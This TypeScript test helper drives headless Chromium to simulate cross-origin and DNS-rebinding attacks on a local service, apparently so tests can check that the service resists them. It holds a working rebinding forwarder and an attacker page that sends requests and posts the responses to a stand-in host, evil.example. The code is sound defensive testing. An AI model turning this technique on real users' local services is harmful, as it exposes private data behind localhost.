import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { type AddressInfo, connect, createServer as createTcpServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';

/** A site of an attacker. */
const foreignHost = 'evil.example';
/** A name of the attacker that first is an address of the attacker's server, and then of this machine. */
export const reboundHost = 'rebound.example';
const names = ['chromium', 'chromium-browser', 'google-chrome'];
const timeoutMs = 40_000;

/**
 * The Chromium of this machine. Without one, the tests with a browser are skipped on a developer's machine only: the
 * same requests are then sent without a browser. @throws Error in CI
 */
export function findChromium(): string | undefined {
  const folders = (process.env['PATH'] ?? '').split(delimiter);
  const found = names
    .flatMap((name) => folders.map((folder) => join(folder, name)))
    .find((file) => existsSync(file));
  if (found === undefined && process.env['CI'])
    throw new Error('CI needs Chromium: apt-get install chromium');
  return found;
}

/** A request that a page sends. */
export type PageRequest = {
  name: string;
  url: string;
  init?: { method?: string; headers?: Record<string, string>; body?: string; mode?: 'cors' | 'no-cors' };
};
/** What the page sees: the response, or `blocked` by the browser. */
export type PageResponse = { name: string; status: number; text: string } | { name: string; blocked: string };

const pageOf = (requests: readonly PageRequest[], reportTo: string) =>
  `<!doctype html><title>evil</title><script type="module">
const requests = ${JSON.stringify(requests).replaceAll('<', '\\u003c')};
const results = await Promise.all(requests.map(async ({ name, url, init }) => {
  try {
    const response = await fetch(url, { ...init, signal: AbortSignal.timeout(10000) });
    return { name, status: response.status, text: (await response.text()).slice(0, 200) };
  } catch (error) {
    return { name, blocked: String(error.message) };
  }
}));
await fetch('${reportTo}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(results) });
</script>`;

/** Opens a page of another site in headless Chromium, which sends the requests. @throws Error when it does not report back */
export async function sendFromForeignPage(
  chromium: string,
  requests: readonly PageRequest[],
): Promise<PageResponse[]> {
  const site = await reportingSite(requests);
  return await reportOf(chromium, `${site.url}/`, site.reported, `MAP ${foreignHost} 127.0.0.1`).finally(
    site.close,
  );
}

/**
 * Sends requests from a page that has the origin of a local port by DNS rebinding: its name and port are those of the
 * requests. The name leads to a forwarder, which answers the first request with the page, as the attacker's server, and
 * passes every later byte to the port of this machine, as after the change of the DNS record. The browser counts the
 * requests as same-origin: it sends them without a preflight, and the page reads the responses.
 * @throws Error when the page does not report back
 */
export async function sendAfterRebinding(
  chromium: string,
  port: number,
  requests: readonly PageRequest[],
): Promise<PageResponse[]> {
  const site = await reportingSite(requests);
  const forwarder = await rebindingServer(site.page, port);
  const rules = `MAP ${foreignHost} 127.0.0.1, MAP ${reboundHost} 127.0.0.1:${forwarder.port}`;
  return await reportOf(chromium, `http://${reboundHost}:${port}/`, site.reported, rules).finally(() => {
    forwarder.close();
    site.close();
  });
}

/** A server of the attacker, with the page, which posts what its requests returned to it. */
async function reportingSite(requests: readonly PageRequest[]) {
  const { promise: reported, resolve } = Promise.withResolvers<PageResponse[]>();
  let page = '';
  const server = createServer(async (incoming, outgoing) => {
    const body = Buffer.concat(await incoming.toArray()).toString();
    outgoing.writeHead(200, { 'Content-Type': 'text/html' }).end(incoming.url === '/' ? page : '');
    if (incoming.url === '/results') resolve(JSON.parse(body));
  });
  const url = `http://${foreignHost}:${await listen(server)}`;
  page = pageOf(requests, `${url}/results`);
  return {
    url,
    page,
    reported,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}

async function rebindingServer(page: string, port: number) {
  let served = false;
  const server = createTcpServer((browser) => {
    browser.on('error', () => browser.destroy());
    browser.once('data', (first) => {
      if (!served && first.toString().startsWith('GET / ')) {
        served = true;
        browser.end(
          `HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: ${Buffer.byteLength(page)}\r\nconnection: close\r\n\r\n${page}`,
        );
        return;
      }
      const service = connect(port, '127.0.0.1');
      service.on('error', () => browser.destroy());
      service.write(first);
      browser.pipe(service).pipe(browser);
    });
  });
  return {
    port: await listen(server),
    close: () => void server.close(),
  };
}

async function listen(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

/** What the page at the address reports; the browser ends then. */
async function reportOf(
  chromium: string,
  address: string,
  reported: Promise<PageResponse[]>,
  rules: string,
): Promise<PageResponse[]> {
  const profile = await mkdtemp(join(tmpdir(), 'chromium-'));
  const browser = spawn(
    chromium,
    [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-dev-shm-usage',
      '--no-first-run',
      `--user-data-dir=${profile}`,
      `--host-resolver-rules=${rules}`,
      '--remote-debugging-port=0',
      address,
    ],
    { stdio: 'ignore' },
  );
  const ended = once(browser, 'exit');
  try {
    return await Promise.race([
      reported,
      new Promise<never>((_, reject) => {
        setTimeout(() => reject(new Error('Chromium did not report back')), timeoutMs).unref();
      }),
    ]);
  } finally {
    browser.kill('SIGKILL');
    await ended;
    await rm(profile, { recursive: true, force: true, maxRetries: 5 });
  }
}
